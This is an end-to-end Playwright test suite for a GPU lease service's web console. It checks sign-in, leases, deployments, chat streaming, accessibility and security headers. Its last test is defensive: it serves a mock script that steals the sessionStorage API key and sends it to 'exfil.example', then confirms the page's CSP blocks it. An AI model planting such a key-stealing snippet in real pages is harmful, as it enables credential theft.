/**
 * The browser console (docs/console.md) in a real browser: playwright-core driving the system
 * Chromium (Debian's `chromium`; .ci/run installs it) against a real `wrangler dev` started
 * through `npm start`'s own script. Each view is screenshotted into artifacts/console/ and checked
 * with axe: no serious or critical violation.
 */
import { existsSync, mkdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { gzipSync } from "node:zlib";
import AxeBuilder from "@axe-core/playwright";
import { chromium, type Browser, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { apiCall, bootstrapTokenFromDevVars, removeStateDir, repoRoot, startServer, stopServer, type Server } from "./server";
import { simFileBytes } from "../../src/providers/sim/files";
import { copiesOfFirstLease, leasesRenderMs, RENDER_TARGET_MS, tableDrawn } from "../support/console-render";

const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
const ARTIFACTS = path.join(repoRoot, "artifacts", "console");
/** What the first load may weigh, gzipped (docs/console.md). */
const FIRST_LOAD_BUDGET_BYTES = 150 * 1024;
/** The model the deployment serves (the sim's model server answers it; docs/sim.md). */
const MODEL = "Qwen/Qwen2.5-0.5B-Instruct";

let server: Server;
let browser: Browser;
let page: Page;
let adminKey: string;
/** The console's own answers of the first load: path and bytes. */
const firstLoad: Array<{ path: string; body: Buffer }> = [];

async function shoot(name: string) {
  await page.screenshot({ path: path.join(ARTIFACTS, `${name}.png`), fullPage: true });
}

/** axe on the page as it is: the serious and critical violations, by rule and what they hit. */
async function seriousViolations() {
  const result = await new AxeBuilder({ page }).analyze();
  return result.violations
    .filter((v) => v.impact === "serious" || v.impact === "critical")
    .map((v) => ({ id: v.id, impact: v.impact, nodes: v.nodes.map((n) => n.target.join(" ")) }));
}

const sessionKeys = () => page.evaluate("Object.keys(sessionStorage)") as Promise<string[]>;

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) throw new Error(`no Chromium at ${CHROMIUM}: apt-get install -y chromium (docs/console.md "Tests"), or set CHROMIUM_PATH`);
  mkdirSync(ARTIFACTS, { recursive: true });
  server = await startServer();
  const org = await apiCall(server, "POST", "/v1/orgs", bootstrapTokenFromDevVars(), { name: "console" });
  expect(org.status).toBe(201);
  adminKey = org.json.key.secret;
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox"] });
  // A context of its own: axe runs its script in a fresh page of the same context.
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  page = await context.newPage();
  page.on("response", async (res) => {
    const url = new URL(res.url());
    if (url.pathname.startsWith("/console") && res.status() === 200) firstLoad.push({ path: url.pathname, body: await res.body().catch(() => Buffer.alloc(0)) });
  });
}, 120_000);

afterAll(async () => {
  await browser?.close();
  if (server) {
    await stopServer(server);
    removeStateDir(server);
  }
});

describe("the console", () => {
  it("is served at /console with its security headers, and /v1 stays the API's", async () => {
    const res = await fetch(`${server.base}/console/`);
    expect(res.status).toBe(200);
    const csp = res.headers.get("content-security-policy") ?? "";
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).not.toContain("unsafe-inline");
    expect(res.headers.get("referrer-policy")).toBe("no-referrer");
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    const html = await res.text();
    // No inline script: every script is a file of this origin.
    expect(html).not.toMatch(/<script(?![^>]*\bsrc="\/console\/)[^>]*>/);
    const bare = await fetch(`${server.base}/console`, { redirect: "manual" });
    expect([301, 307, 308]).toContain(bare.status);
    expect(bare.headers.get("location")).toBe("/console/");
    // The headers file is read, never served; the API answers its own 404.
    expect((await fetch(`${server.base}/_headers`)).status).toBe(404);
    expect(await (await fetch(`${server.base}/v1/healthz`)).json()).toMatchObject({ ok: true });
  });

  it("refuses a wrong key, storing nothing, then signs in", async () => {
    await page.goto(`${server.base}/console/`);
    await page.getByLabel("API key").fill("lsr_not_a_key_of_this_installation");
    await page.getByRole("button", { name: "Sign in" }).click();
    await expect.poll(() => page.getByRole("alert").textContent()).toMatch(/refused/i);
    expect(await sessionKeys()).toEqual([]);
    expect(page.url()).not.toContain("lsr_");

    await page.getByLabel("API key").fill(adminKey);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("heading", { name: "Leases" }).waitFor();
    expect(page.url()).not.toContain(adminKey);
    expect(await page.evaluate("document.cookie")).toBe("");

    const gz = firstLoad.map((f) => ({ path: f.path, gzipped: gzipSync(f.body).length }));
    const total = gz.reduce((n, f) => n + f.gzipped, 0);
    console.log(`console first load, gzipped: ${(total / 1024).toFixed(1)} KiB (${gz.map((f) => `${f.path} ${f.gzipped} B`).join(", ")}); target ${FIRST_LOAD_BUDGET_BYTES / 1024} KiB`);
    expect(gz.map((f) => f.path).sort()).toEqual(["/console/", "/console/app.css", "/console/app.js"]);
  });

  it("creates a scratch lease, watches it become ready live with its countdown, and ends it through the confirmation", async () => {
    await page.getByText("New scratch lease").click();
    const gpu = page.getByLabel("GPU class");
    await expect.poll(() => gpu.locator("option").count()).toBeGreaterThan(0);
    await page.getByLabel("Name (optional)").fill("console-e2e");
    await page.getByRole("button", { name: "Create scratch lease" }).click();
    const row = page.locator("table.leases tbody tr", { hasText: "console-e2e" });
    await row.waitFor();
    // Ready without a reload: the org's event stream moved it.
    await row.locator("td.state", { hasText: "ready" }).waitFor({ timeout: 60_000 });
    const deadline = row.locator("td.deadline");
    await expect.poll(() => deadline.textContent()).toMatch(/^release in \d+m \d+s \(ttl_expired\)$/);
    const first = await deadline.textContent();
    await expect.poll(() => deadline.textContent(), { timeout: 5_000 }).not.toBe(first);
    await shoot("leases");
    expect(await seriousViolations()).toEqual([]);

    await row.getByRole("link", { name: "console-e2e" }).click();
    await page.getByRole("heading", { name: "console-e2e" }).waitFor();
    // By keyboard: the focus is visible, Enter asks, Escape cancels and nothing happens.
    const end = page.getByRole("button", { name: "End", exact: true });
    const dialog = page.getByRole("dialog");
    await end.focus();
    await page.keyboard.press("Shift+Tab");
    await page.keyboard.press("Tab");
    expect(await page.evaluate("getComputedStyle(document.activeElement).outlineStyle")).toBe("solid");
    await page.keyboard.press("Enter");
    await dialog.waitFor();
    await page.keyboard.press("Escape");
    await expect.poll(() => dialog.count()).toBe(0);
    expect(await page.locator(".lease-state").textContent()).toBe("ready");

    await end.click();
    await expect.poll(() => dialog.textContent()).toMatch(/Destroys the machine .* and releases the lease for good; billing stops\. Spent so far: \$\d+\.\d{4}\./);
    await shoot("lease-confirm-end");
    expect(await seriousViolations()).toEqual([]);
    await dialog.getByRole("button", { name: "End lease" }).click();
    await page.locator(".lease-state", { hasText: "released (user_end)" }).waitFor({ timeout: 60_000 });
    await page.locator(".timeline li", { hasText: "released" }).last().waitFor();
    await shoot("lease");
    expect(await seriousViolations()).toEqual([]);

    await page.getByRole("link", { name: "All leases" }).click();
    await page.locator("table.leases tbody tr", { hasText: "console-e2e" }).locator("td.state", { hasText: "released (user_end)" }).waitFor();
  });

  it("lists a lease's artifacts with sizes, says when its outputs came back, and a download (with the key) yields their bytes", { timeout: 120_000 }, async () => {
    // The sim's agent writes the outputs and uploads them through the agent routes (docs/sim.md "Data in and out").
    // A scratch lease's command, not a job's: the org keeps no job, which the 1,000-lease test's
    // filter below counts on (its list of copies answers a kind the org has none of with none).
    const job = await apiCall(server, "POST", "/v1/leases", adminKey, {
      kind: "scratch",
      name: "console-artifacts",
      spec: { gpu: "l40s:1" },
      policy: { ttl: "30m" },
      cmd: "echo training; write result.bin 3K s9; write ckpt/model.bin 100",
    });
    expect([201, 202], JSON.stringify(job.json)).toContain(job.status);
    await page.goto(`${server.base}/console/#/leases/${job.json.id}`);
    await page.getByRole("heading", { name: "console-artifacts" }).waitFor();
    const uploaded = page.locator(".timeline li", { hasText: "outputs_uploaded" });
    await uploaded.waitFor({ timeout: 60_000 });
    expect(await uploaded.textContent()).toContain("2 files, 3.1 KiB uploaded");
    // Read again when the event came: both files, with their sizes.
    const rows = page.locator("table.artifacts tbody tr");
    await expect.poll(() => rows.count(), { timeout: 10_000 }).toBe(2);
    expect(await rows.nth(0).locator("td").nth(0).textContent()).toBe("ckpt/model.bin");
    expect(await rows.nth(0).locator("td").nth(1).textContent()).toBe("100 B");
    expect(await rows.nth(1).locator("td").nth(1).textContent()).toBe("3.0 KiB");
    await shoot("lease-artifacts");
    expect(await seriousViolations()).toEqual([]);

    const saving = page.waitForEvent("download");
    await page.getByRole("button", { name: "Download result.bin" }).click();
    const saved = await saving;
    expect(saved.suggestedFilename()).toBe("result.bin");
    expect(readFileSync(await saved.path()).equals(Buffer.from(simFileBytes("s9", 0, 3072)))).toBe(true);
    // Ended and released here, so that none of its events reaches a later test's page.
    expect([200, 202]).toContain((await apiCall(server, "POST", `/v1/leases/${job.json.id}/end`, adminKey, {})).status);
    await expect.poll(async () => (await apiCall(server, "GET", `/v1/leases/${job.json.id}`, adminKey)).json.state, { timeout: 30_000 }).toBe("released");
  });

  it("shows a deployment ready without a reload, its base_url and api_key to copy, and streams a chat through its gateway", { timeout: 180_000 }, async () => {
    // The form's confirmation says what an hour costs; Escape cancels and nothing is made.
    await page.getByRole("link", { name: "Deployments", exact: true }).click();
    await page.getByText("New deployment").click();
    await expect.poll(() => page.getByLabel("Model").locator("option").count()).toBeGreaterThan(0);
    await page.getByLabel("Model").selectOption(MODEL);
    await page.getByLabel("Deployment name").fill("console-form");
    await page.getByRole("button", { name: "Review deployment" }).click();
    const dialog = page.getByRole("dialog");
    await expect.poll(() => dialog.textContent()).toMatch(/Rents \S+×\d+ on sim \/ \S+ at \$\d+\.\d{3}\/h, billed while it runs/);
    await shoot("deployment-confirm");
    expect(await seriousViolations()).toEqual([]);
    await page.keyboard.press("Escape");
    await expect.poll(() => dialog.count()).toBe(0);
    expect((await apiCall(server, "GET", "/v1/deployments/console-form", adminKey)).status).toBe(404);

    // Made through the API, while the list is open: it appears there live.
    let deployment: { id: string; base_url: string; api_key: string; model: string } | null = null;
    const until = Date.now() + 60_000;
    while (!deployment && Date.now() < until) {
      const res = await apiCall(server, "PUT", "/v1/deployments/console-chat", adminKey, { model: MODEL, spec: { gpu: "l40s:1" } });
      if (res.status === 200 || res.status === 202) deployment = res.json;
      else await new Promise((r) => setTimeout(r, 500));
    }
    if (!deployment) throw new Error("the deployment was never made");

    const row = page.locator("table.deployments tbody tr", { hasText: "console-chat" });
    await row.waitFor();
    expect(await row.textContent()).toContain(MODEL);
    await row.getByRole("link", { name: "console-chat", exact: true }).click();
    await page.getByRole("heading", { name: "console-chat" }).waitFor();
    // Ready without a reload: its lease's events moved it.
    await page.locator(".deployment-state", { hasText: "ready" }).waitFor({ timeout: 120_000 });
    expect(await page.locator("code.base-url").textContent()).toBe(deployment.base_url);
    // The key is copied, never shown, never in the URL.
    expect(await page.content()).not.toContain(deployment.api_key);
    expect(page.url()).not.toContain(deployment.api_key);

    // Each copy button by keyboard: its outcome said in a live region, the clipboard holding the value.
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"], { origin: server.base });
    for (const [name, value] of [["Copy base_url", deployment.base_url], ["Copy api_key", deployment.api_key]] as const) {
      const button = page.getByRole("button", { name });
      await button.focus();
      await page.keyboard.press("Enter");
      await page.getByRole("status").filter({ hasText: /^Copied$/ }).first().waitFor();
      expect(await page.evaluate("navigator.clipboard.readText()")).toBe(value);
    }

    // The chat: POST {base_url}/chat/completions, streamed, with the deployment's key.
    await page.evaluate(`(() => {
      window.__partials = [];
      new MutationObserver(() => {
        const text = document.querySelector(".turn-assistant.streaming .content")?.textContent;
        if (text && text !== "…" && window.__partials.at(-1) !== text) window.__partials.push(text);
      }).observe(document.querySelector("ol.chat"), { subtree: true, childList: true, characterData: true });
    })()`);
    const sent = page.waitForRequest((r) => r.url() === `${deployment.base_url}/chat/completions` && r.method() === "POST");
    await page.getByLabel("Message").fill("Say hello");
    await page.getByRole("button", { name: "Send" }).click();
    const request = await sent;
    expect(request.headers().authorization).toBe(`Bearer ${deployment.api_key}`);
    expect(request.postDataJSON()).toMatchObject({ model: MODEL, stream: true, messages: [{ role: "user", content: "Say hello" }] });
    const answer = page.locator(".turn-assistant:not(.streaming) .content");
    await answer.waitFor({ timeout: 60_000 });
    const text = (await answer.textContent()) ?? "";
    expect(text.length).toBeGreaterThan(0);
    // The same answer the gateway gives a client that does not stream (the sim's model is deterministic).
    const direct = await fetch(`${deployment.base_url}/chat/completions`, {
      method: "POST",
      headers: { authorization: `Bearer ${deployment.api_key}`, "content-type": "application/json" },
      body: JSON.stringify({ model: MODEL, messages: [{ role: "user", content: "Say hello" }] }),
    });
    expect(((await direct.json()) as { choices: Array<{ message: { content: string } }> }).choices[0]!.message.content).toBe(text);
    const partials = (await page.evaluate("window.__partials")) as string[];
    console.log(`console: the chat's answer appeared in ${partials.length} steps`);
    expect(partials.length).toBeGreaterThan(1);
    expect(await page.getByRole("alert").count()).toBe(0);
    await shoot("deployment");
    expect(await seriousViolations()).toEqual([]);

    await page.getByRole("link", { name: "All deployments" }).click();
    await row.locator("td.state", { hasText: "ready" }).waitFor();
    await shoot("deployments");
    expect(await seriousViolations()).toEqual([]);
    expect((await apiCall(server, "DELETE", "/v1/deployments/console-chat", adminKey)).status).toBe(200);
  });

  it("draws the catalog's and the usage's charts", async () => {
    await page.getByRole("link", { name: "Catalog", exact: true }).click();
    await page.getByRole("img", { name: /Cheapest offer price per GPU/ }).locator("canvas").waitFor();
    await shoot("catalog");
    expect(await seriousViolations()).toEqual([]);

    // Its next request is refused. The console may already have made one (its live stream, a
    // refresh) and be back at sign-in, the nav gone; else opening Usage makes it.
    await page
      .getByRole("link", { name: "Usage", exact: true })
      .click({ timeout: 5_000 })
      .catch(() => undefined);
    const chart = page.getByRole("img", { name: /Spend by day/ });
    await chart.locator("canvas").waitFor();
    const size = await chart.locator("canvas").evaluate((c) => ({ width: (c as unknown as { width: number }).width, height: (c as unknown as { height: number }).height }));
    expect(size.width).toBeGreaterThan(0);
    expect(size.height).toBeGreaterThan(0);
    await expect.poll(() => page.locator("table", { hasText: "Spend by provider" }).textContent()).toContain("sim");
    await shoot("usage");
    expect(await seriousViolations()).toEqual([]);
  });

  it("renders a table of 1,000 leases (measured and printed)", async () => {
    // The list answered with the org's one lease copied 1,000 times (test/support/console-render.ts).
    // The table has appeared when its caption counts the 1,000 (and any lease of the org's events
    // read since) and its rows in view are drawn (a long table renders only those: docs/console.md).
    await copiesOfFirstLease(page, 1000);
    const drawn = tableDrawn(1000);
    const ms = await leasesRenderMs(page, 1000);
    console.log(`console: 1,000 leases rendered ${ms.toFixed(0)} ms after their list arrived (target ${RENDER_TARGET_MS} ms; npm run bench measures it)`);
    const table = page.locator("table.leases");
    const rows = table.locator("tbody tr[data-lease]");
    expect(Number(await table.getAttribute("aria-rowcount"))).toBeGreaterThanOrEqual(1001);
    const rendered = await rows.count();
    expect(rendered).toBeGreaterThan(10);
    expect(rendered).toBeLessThan(200);
    expect(await rows.first().getAttribute("aria-rowindex")).toBe("2");

    // By keyboard past the rendered rows: focusing the last one scrolls it into view, which
    // renders the rows after it, and Tab goes on to the next lease.
    const last = rows.last();
    const index = Number(await last.getAttribute("aria-rowindex"));
    await last.getByRole("link").focus();
    await table.locator(`tr[aria-rowindex="${index + 1}"]`).waitFor();
    await page.keyboard.press("Tab");
    expect(await page.evaluate("document.activeElement.closest('tr')?.getAttribute('aria-rowindex')")).toBe(String(index + 1));
    // Scrolled to the end, the last lease is there.
    await page.evaluate("window.scrollTo(0, document.body.scrollHeight)");
    await table.locator("tr", { hasText: "bulk-999" }).waitFor();
    await page.evaluate("window.scrollTo(0, 0)");
    await table.locator('tr[aria-rowindex="2"]', { hasText: "bulk-0" }).waitFor();
    expect(await seriousViolations()).toEqual([]);

    await page.getByLabel("Kind").selectOption("job");
    await expect.poll(() => rows.count()).toBe(0);
    const again = (await page.evaluate(`new Promise((resolve) => {
      const select = [...document.querySelectorAll("select")].find((s) => s.closest("label")?.textContent?.startsWith("Kind"));
      const t0 = performance.now();
      select.value = "";
      select.dispatchEvent(new Event("change", { bubbles: true }));
      const tick = () => (${drawn} ? resolve(performance.now() - t0) : requestAnimationFrame(tick));
      tick();
    })`)) as number;
    console.log(`console: 1,000 leases rendered again by a filter in ${again.toFixed(0)} ms`);
    await page.unroute(/\/v1\/leases\?/);
  });

  it("shows the settings, then a refused key returns to sign-in with the reason, and Sign out forgets the key", async () => {
    await page.getByRole("link", { name: "Settings", exact: true }).click();
    await page.getByRole("heading", { name: "API keys" }).waitFor();
    await page.getByRole("cell", { name: "runpod" }).waitFor();
    await shoot("settings");
    expect(await seriousViolations()).toEqual([]);

    // A key revoked behind the console's back: its next request is a 401, and the console says so.
    const made = await apiCall(server, "POST", "/v1/keys", adminKey, { name: "browser", scope: "read" });
    await page.getByRole("button", { name: "Sign out" }).click();
    expect(await sessionKeys()).toEqual([]);
    await page.getByLabel("API key").fill(made.json.secret);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("button", { name: "Sign out" }).waitFor();
    expect((await apiCall(server, "DELETE", `/v1/keys/${made.json.id}`, adminKey)).status).toBeLessThan(300);
    // Its next request is refused. The console may already have made one (its live stream, a
    // refresh) and be back at sign-in, the nav gone; else opening Usage makes it.
    await page
      .getByRole("link", { name: "Usage", exact: true })
      .click({ timeout: 5_000 })
      .catch(() => undefined);
    await expect.poll(() => page.getByRole("status").first().textContent()).toMatch(/^Signed out: .+/);
    await page.getByLabel("API key").waitFor();
    expect(await sessionKeys()).toEqual([]);
    await shoot("sign-in");
    expect(await seriousViolations()).toEqual([]);
  });
});

// Hardening item 12 (docs/security.md): the console keeps its key in this origin's sessionStorage,
// which every script any page of the origin runs can read; so no page of the origin runs a script
// from anywhere else. Every request to another origin is answered here by a "CDN" whose script
// would take the key.
describe("the API reference on the console's origin", () => {
  it("renders /docs from this origin's own scripts under its CSP; no script of another origin runs, so the key cannot be read from there", { timeout: 120_000 }, async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const foreign: string[] = [];
    await context.route(
      (url) => url.origin !== new URL(server.base).origin,
      (route) => {
        foreign.push(route.request().url());
        const thief = "window.__stolen = Object.values(sessionStorage); fetch('https://exfil.example/?k=' + encodeURIComponent(String(window.__stolen)));";
        return route.fulfill({ status: 200, contentType: "application/javascript", body: thief });
      },
    );
    const docs = await context.newPage();
    const violations: string[] = [];
    docs.on("console", (m) => {
      if (/Content.Security.Policy/i.test(m.text())) violations.push(m.text());
    });
    try {
      // Signed in on the console, then the same tab goes to /docs: the tab's sessionStorage holds the key.
      await docs.goto(`${server.base}/console/`);
      await docs.getByLabel("API key").fill(adminKey);
      await docs.getByRole("button", { name: "Sign in" }).click();
      await docs.getByRole("heading", { name: "Leases" }).waitFor();
      expect(await docs.evaluate("Object.values(sessionStorage)")).toEqual([adminKey]);

      const answer = await docs.goto(`${server.base}/docs`, { waitUntil: "load" });
      // Nothing was asked of another origin, and no script took the key.
      expect(foreign).toEqual([]);
      expect(await docs.evaluate("window.__stolen")).toBeUndefined();
      expect(new URL(docs.url()).pathname).toBe("/docs/");
      const csp = answer?.headers()["content-security-policy"] ?? "";
      expect(csp).toContain("script-src 'self';");
      // The reference rendered the Worker's own document (its description, and an operation of it).
      await docs.getByText("GPU lease control plane", { exact: false }).first().waitFor({ timeout: 60_000 });
      await docs.getByText("Liveness (no authentication)").first().waitFor();
      await docs.screenshot({ path: path.join(ARTIFACTS, "docs.png") });
      // Its scripts: the two files of this origin, nothing else; the page needed nothing its policy refuses.
      const scripts = (await docs.evaluate("[...document.scripts].map((s) => s.src)")) as string[];
      expect(scripts.map((src) => new URL(src).pathname)).toEqual([expect.stringMatching(/^\/docs\/scalar-api-reference-[0-9.]+\.js$/), "/docs/init.js"]);
      expect(violations).toEqual([]);
      expect(foreign).toEqual([]);

      // A script of another origin put on the page (as an injection would) is refused by the policy
      // before it is requested, and so is an inline one.
      const refused = (await docs.evaluate(`new Promise((resolve) => {
        const seen = [];
        document.addEventListener("securitypolicyviolation", (e) => {
          seen.push(e.violatedDirective + " " + e.blockedURI);
          if (seen.length === 2) resolve(seen);
        });
        const remote = document.createElement("script");
        remote.src = "https://cdn.jsdelivr.net/npm/@scalar/api-reference";
        document.body.append(remote);
        const inline = document.createElement("script");
        inline.textContent = "window.__stolen = Object.values(sessionStorage)";
        document.body.append(inline);
      })`)) as string[];
      expect(refused).toEqual([expect.stringMatching(/^script-src(-elem)? https:\/\/cdn\.jsdelivr\.net/), expect.stringMatching(/^script-src(-elem)? inline$/)]);
      expect(await docs.evaluate("window.__stolen")).toBeUndefined();
      expect(foreign).toEqual([]);
    } finally {
      await context.close();
    }
  });
});

